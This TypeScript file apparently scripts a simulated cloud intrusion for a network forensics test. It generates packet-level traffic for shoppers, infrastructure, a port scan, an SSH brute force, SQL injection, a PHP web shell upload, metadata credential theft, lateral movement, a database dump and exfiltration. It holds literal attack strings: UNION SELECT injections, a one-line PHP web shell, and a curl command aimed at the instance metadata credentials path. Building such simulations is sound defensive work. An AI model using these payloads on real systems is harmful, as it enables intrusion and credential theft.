/** The incident, act by act. Every act sends packets into the network; what is logged and mirrored follows from the rules there. */
import { dnsAnswer, dnsQuery, noise, ntp, tlsClientHello, tlsData } from "../../test/builders/messages.ts";
import { type Network, type Times } from "./network.ts";
import { bareSyn, datagram, echo, scanSequence, Talk } from "./talk.ts";
import { type Packet } from "./mirror.ts";
import { outside, production, resolver, staging } from "./world.ts";

const SECOND = 1_000_000;
/** 2026-03-17T09:30:00Z: the captures start. */
export const START = 1_773_739_800 * SECOND;
export const capture: Times = { from: START, to: START + 840 * SECOND };
const { web, app, bastion, database, monitor, nat } = production;

const at = (seconds: number): number => START + Math.round(seconds * SECOND);

/** Runs the whole script. */
export function runIncident(network: Network): void {
  downloadAcrossTheStart(network);
  customers(network);
  infrastructure(network);
  throughTheNat(network);
  portScan(network);
  bruteForce(network);
  injection(network);
  lateralMovement(network);
  databaseDump(network);
  outboundTransfer(network);
  stagingTraffic(network);
}

/** A download that began before the capture did: its first records straddle the capture's start. */
function downloadAcrossTheStart(network: Network): void {
  const send = (packet: Packet) => network.send(packet);
  const talk = new Talk({
    at: at(-9),
    client: "192.0.2.14",
    clientPort: 51514,
    server: web.address,
    serverPort: 443,
    send,
    delay: 9000,
  });
  talk.open().say(0, tlsClientHello("shop.example.com", noise(32, 1)));
  for (let part = 0; part < 8; part++) talk.say(1, tlsData(noise(4000, part))).pause(1.6);
  talk.close();
}

/** Shoppers: TLS to the web server, which asks the application server, which asks the database over one lasting connection. */
function customers(network: Network): void {
  const send = (packet: Packet) => network.send(packet);
  const db = new Talk({
    at: at(70),
    client: app.address,
    clientPort: 40306,
    server: database.address,
    serverPort: 3306,
    send,
    delay: 300,
  });
  db.open().say(1, "J\0\0\0\n8.0.36\0");
  for (let n = 0; n < 26; n++) {
    const start = 75 + n * 21.3;
    const shopper = new Talk({
      at: at(start),
      client: `192.0.2.${20 + n}`,
      clientPort: 50000 + n * 17,
      server: web.address,
      serverPort: 443,
      send,
      delay: 11000,
    });
    shopper
      .open()
      .say(0, tlsClientHello("shop.example.com", noise(32, n)))
      .say(1, tlsData(noise(2600, n)));
    shopper.say(0, tlsData(noise(420, n + 100)));
    const inner = new Talk({
      at: shopper.at + 2000,
      client: web.address,
      clientPort: 42000 + n,
      server: app.address,
      serverPort: 8080,
      send,
      delay: 400,
    });
    inner.open().say(0, `GET /catalog?page=${n} HTTP/1.1\r\nHost: app.internal:8080\r\n\r\n`);
    db.at = Math.max(db.at, inner.at + 500);
    db.say(0, `\x2a\0\0\0\x03select id, name, price from items limit ${n * 20}, 20`).say(1, noise(900, n));
    inner.at = Math.max(inner.at, db.at + 500);
    inner
      .say(1, `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1200\r\n\r\n${"{}".padEnd(1200)}`)
      .close();
    shopper.at = Math.max(shopper.at, inner.at);
    shopper
      .say(1, tlsData(noise(1900 + n * 90, n + 200)))
      .pause(0.8)
      .close(1);
  }
}

/** Resolver, external time, metrics, syslog, pings. */
function infrastructure(network: Network): void {
  for (let n = 0; n < 25; n++) {
    lookUp(network, app.address, at(80 + n * 30), 30000 + n, ["mirror.packages.example", "db.internal"][n % 2]);
    lookUp(network, web.address, at(83 + n * 30), 31000 + n, "app.internal");
  }
  for (let n = 0; n < 4; n++) {
    const asked = at(95 + n * 128);
    network.send(
      datagram(
        { at: asked, src: web.address, srcPort: 123, dst: outside.timeServer, dstPort: 123 },
        ntp(3, asked / SECOND),
      ),
    );
    network.send(
      datagram(
        { at: asked + 18000, src: outside.timeServer, srcPort: 123, dst: web.address, dstPort: 123 },
        ntp(4, asked / SECOND),
      ),
    );
    // The Amazon time source: in no mirror and in no log.
    network.send(
      datagram(
        { at: asked + 500, src: app.address, srcPort: 123, dst: "169.254.169.123", dstPort: 123 },
        ntp(3, asked / SECOND),
      ),
    );
  }
  for (let n = 0; n < 11; n++) scrape(network, n);
}

function lookUp(network: Network, client: string, time: number, port: number, name: string): void {
  const id = port & 0xffff;
  network.send(datagram({ at: time, src: client, srcPort: port, dst: resolver, dstPort: 53 }, dnsQuery(id, name)));
  network.send(
    datagram(
      { at: time + 700, src: resolver, srcPort: 53, dst: client, dstPort: port },
      dnsAnswer(id, name, "10.0.3.30"),
    ),
  );
}

function scrape(network: Network, n: number): void {
  const send = (packet: Packet) => network.send(packet);
  const start = 90 + n * 60;
  const metrics = new Talk({
    at: at(start),
    client: monitor.address,
    clientPort: 45000 + n,
    server: web.address,
    serverPort: 9100,
    send,
    delay: 300,
  });
  metrics
    .open()
    .say(0, "GET /metrics HTTP/1.1\r\nHost: web:9100\r\n\r\n")
    .say(1, `HTTP/1.1 200 OK\r\n\r\nload1 0.${n}\n`)
    .close();
  const line = `<134>1 2026-03-17T09:3${n % 10}:00Z web nginx - - - request served`;
  network.send(
    datagram({ at: at(start + 2), src: web.address, srcPort: 38514, dst: monitor.address, dstPort: 514 }, line),
  );
  network.send(echo(at(start + 3), monitor.address, app.address, 8, n));
  network.send(echo(at(start + 3) + 400, app.address, monitor.address, 0, n));
}

/** The application server fetches packages; the NAT gateway rewrites the addresses, and logs both sides. */
function throughTheNat(network: Network): void {
  for (let n = 0; n < 3; n++) {
    const port = 46000 + n;
    const translated = 1024 + n * 7;
    const send = (packet: Packet): void => {
      if (packet.src === app.address) {
        network.pass(app, "egress", packet);
        network.pass(nat, "ingress", { ...packet, at: packet.at + 150 }, { dst: nat.address });
        network.pass(nat, "egress", { ...packet, at: packet.at + 200, src: nat.address, srcPort: translated });
      } else {
        network.pass(nat, "ingress", { ...packet, dst: nat.address, dstPort: translated });
        network.pass(nat, "egress", { ...packet, at: packet.at + 60 }, { src: nat.address });
        network.pass(app, "ingress", { ...packet, at: packet.at + 200 });
      }
    };
    const fetch = new Talk({
      at: at(130 + n * 200),
      client: app.address,
      clientPort: port,
      server: outside.packages,
      serverPort: 443,
      send,
      delay: 7000,
    });
    fetch
      .open()
      .say(0, tlsClientHello("mirror.packages.example", noise(32, n + 50)))
      .say(1, tlsData(noise(6000, n + 60)))
      .close();
  }
}

/** SYNs to 240 ports of the web server and 40 of the bastion: all but the open ones are REJECTed, so only those are mirrored. */
function portScan(network: Network): void {
  const open: Readonly<Record<string, readonly number[]>> = { [web.address]: [80, 443], [bastion.address]: [22] };
  for (let n = 0; n < 280; n++) {
    const target = n < 240 ? web : bastion;
    const port = n < 240 ? 20 + n * 2 : n - 240 + 1;
    const time = at(95 + n * 0.11);
    const answered = open[target.address].includes(port);
    network.send(bareSyn(time, outside.scanner, 61000, target.address, port), { rejected: !answered });
    if (answered) answerScan(network, time, target.address, port);
  }
  // Port 443 was skipped by the even numbers; the scanner comes back for it.
  network.send(bareSyn(at(127), outside.scanner, 61001, web.address, 443));
  answerScan(network, at(127), web.address, 443, 61001);
}

function answerScan(network: Network, time: number, server: string, port: number, scannerPort = 61000): void {
  const send = (packet: Packet) => {
    if (!(packet.flags === 2)) network.send(packet);
  };
  const isn = [scanSequence(time), port * 1000003] as const;
  const talk = new Talk({
    at: time,
    client: outside.scanner,
    clientPort: scannerPort,
    server,
    serverPort: port,
    send,
    isn,
  });
  talk.packet(0, "S").packet(1, "SA").packet(0, "R");
}

/** 240 guesses at the bastion's SSH, the last of which gets in. */
function bruteForce(network: Network): void {
  const send = (packet: Packet) => network.send(packet);
  for (let n = 0; n < 240; n++) {
    const options = {
      client: outside.scanner,
      clientPort: 33000 + n,
      server: bastion.address,
      serverPort: 22,
      send,
      delay: 14000,
    };
    const talk = new Talk({ ...options, at: at(180 + n * 0.85) }).open();
    talk.say(1, "SSH-2.0-OpenSSH_9.6p1\r\n").say(0, "SSH-2.0-libssh2_1.11.0\r\n");
    talk
      .say(0, noise(700, n))
      .say(1, noise(1080, n + 1))
      .say(0, noise(90, n + 2))
      .say(1, noise(60, n + 3));
    if (n === 239)
      for (let line = 0; line < 30; line++) talk.say(line % 2 ? 1 : 0, noise(64 + line * 3, line)).pause(0.4);
    talk.close(n === 239 ? 0 : 1);
  }
}

const page = (status: string, body: string) =>
  `HTTP/1.1 ${status}\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

/** SQL injection, a web shell, and a request for instance credentials through the application server's proxy. */
function injection(network: Network): void {
  const send = (packet: Packet) => network.send(packet);
  const browse = (seconds: number, port: number) =>
    new Talk({
      at: at(seconds),
      client: outside.injector,
      clientPort: port,
      server: web.address,
      serverPort: 80,
      send,
      delay: 13000,
    });
  const get = (path: string) =>
    `GET ${path} HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: sqlmap/1.8\r\nAccept: */*\r\n\r\n`;
  for (let n = 0; n < 12; n++) {
    const path = `/item.php?id=1%27%20UNION%20SELECT%20${["NULL", "user()", "version()"][n % 3]}%2C${n}--%20-`;
    browse(410 + n * 3, 52000 + n)
      .open()
      .say(0, get(path))
      .say(1, page(n < 3 ? "500 Internal Server Error" : "200 OK", `<p>${n}</p>`))
      .close();
  }
  const shell =
    "--x\r\nContent-Disposition: form-data; name=f; filename=img.php\r\n\r\n<?php system($_GET['c']); ?>\r\n--x--\r\n";
  const post = `POST /upload.php HTTP/1.1\r\nHost: shop.example.com\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${shell.length}\r\n\r\n`;
  browse(455, 52100)
    .open()
    .say(0, post + shell)
    .say(1, page("201 Created", "/uploads/img.php"))
    .close();
  browse(461, 52101)
    .open()
    .say(0, get("/uploads/img.php?c=id"))
    .say(1, page("200 OK", "uid=33(www-data) gid=33(www-data)"))
    .close();
  const metadata = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
  browse(467, 52102)
    .open()
    .say(0, get(`/uploads/img.php?c=curl%20-x%20app.internal:8080%20${metadata}`))
    .say(1, page("200 OK", "app-role"))
    .close();
  const proxied = new Talk({
    at: at(467.2),
    client: web.address,
    clientPort: 42900,
    server: app.address,
    serverPort: 8080,
    send,
    delay: 400,
  });
  proxied.open().say(0, `GET ${metadata} HTTP/1.1\r\nHost: 169.254.169.254\r\nUser-Agent: curl/8.5.0\r\n\r\n`);
  // The application server asks its own metadata service: neither mirrored nor logged.
  new Talk({
    at: proxied.at,
    client: app.address,
    clientPort: 47000,
    server: "169.254.169.254",
    serverPort: 80,
    send,
    delay: 100,
  })
    .open()
    .close();
  proxied.say(1, page("200 OK", "app-role")).close();
}

/** From the web server: a sweep for SSH through the application subnet, a log-in there, a refused try at the database. */
function lateralMovement(network: Network): void {
  const send = (packet: Packet) => network.send(packet);
  for (let n = 0; n < 40; n++) network.send(bareSyn(at(500 + n * 0.05), web.address, 43000, `10.0.2.${100 + n}`, 22));
  const ssh = new Talk({
    at: at(506),
    client: web.address,
    clientPort: 43100,
    server: app.address,
    serverPort: 22,
    send,
    delay: 400,
  }).open();
  ssh
    .say(1, "SSH-2.0-OpenSSH_9.6p1\r\n")
    .say(0, "SSH-2.0-OpenSSH_9.2p1\r\n")
    .say(0, noise(800, 7))
    .say(1, noise(1000, 8));
  for (let line = 0; line < 24; line++) ssh.say(line % 2 ? 1 : 0, noise(80 + line * 5, line)).pause(0.5);
  ssh.close();
  for (let n = 0; n < 3; n++)
    network.send(bareSyn(at(530 + n), web.address, 43200, database.address, 3306), { rejected: true });
}

/** The application server reads the whole customer table; its mirror session loses a quarter of the answer. */
function databaseDump(network: Network): void {
  let count = 0;
  const send = (packet: Packet): void => {
    const lost = packet.src === database.address && packet.bytes.length > 1000 && count++ % 4 === 2;
    network.send(packet, { lostBy: lost ? [102] : [] });
  };
  const dump = new Talk({
    at: at(560),
    client: app.address,
    clientPort: 40399,
    server: database.address,
    serverPort: 3306,
    send,
    delay: 300,
  });
  dump
    .open()
    .say(0, "\x1c\0\0\0\x03select * from customers")
    .say(1, noise(1448 * 110, 9))
    .close();
}

/** 1.2 GB go out after the captures have ended: only the flow logs know. */
function outboundTransfer(network: Network): void {
  const ports = { src: web.address, dst: outside.dropPoint, protocol: 6, srcPort: 44444, dstPort: 443 };
  const back = { src: outside.dropPoint, dst: web.address, protocol: 6, srcPort: 443, dstPort: 44444 };
  const full = new Uint8Array(1500);
  const ack = new Uint8Array(52);
  const start = capture.to + 110 * SECOND;
  network.send({ ...ports, at: start, flags: 2, bytes: new Uint8Array(60) });
  network.send({ ...back, at: start + 15000, flags: 18, bytes: new Uint8Array(60) });
  network.repeat(web, "egress", { ...ports, at: start + 30000, flags: 16, bytes: full }, 800_000, 105);
  network.repeat(web, "ingress", { ...back, at: start + 45000, flags: 16, bytes: ack }, 400_000, 210);
}

/** The staging VPC has the same addresses and, for one conversation, the same ports at the same time. */
function stagingTraffic(network: Network): void {
  const send = (packet: Packet) => network.send(packet, { vpc: "staging" });
  for (let n = 0; n < 8; n++) {
    const twin = new Talk({
      at: at(75.1 + n * 64),
      client: staging.web.address,
      clientPort: 42000 + n * 3,
      server: staging.app.address,
      serverPort: 8080,
      send,
      delay: 500,
    });
    twin
      .open()
      .say(0, `GET /staging/catalog?page=${n} HTTP/1.1\r\nHost: app.staging:8080\r\n\r\n`)
      .say(1, page("200 OK", "staging".repeat(30 + n * 10)))
      .close();
  }
  const db = new Talk({
    at: at(200),
    client: staging.app.address,
    clientPort: 40306,
    server: staging.database.address,
    serverPort: 3306,
    send,
    delay: 300,
  });
  db.open().say(0, "\x09\0\0\0\x03select 1").say(1, noise(300, 3)).close();
  const build = new Talk({
    at: at(300),
    client: staging.runner.address,
    clientPort: 48000,
    server: outside.packages,
    serverPort: 443,
    send,
    delay: 8000,
  });
  build
    .open()
    .say(0, tlsClientHello("mirror.packages.example", noise(32, 70)))
    .say(1, tlsData(noise(9000, 71)))
    .close();
}
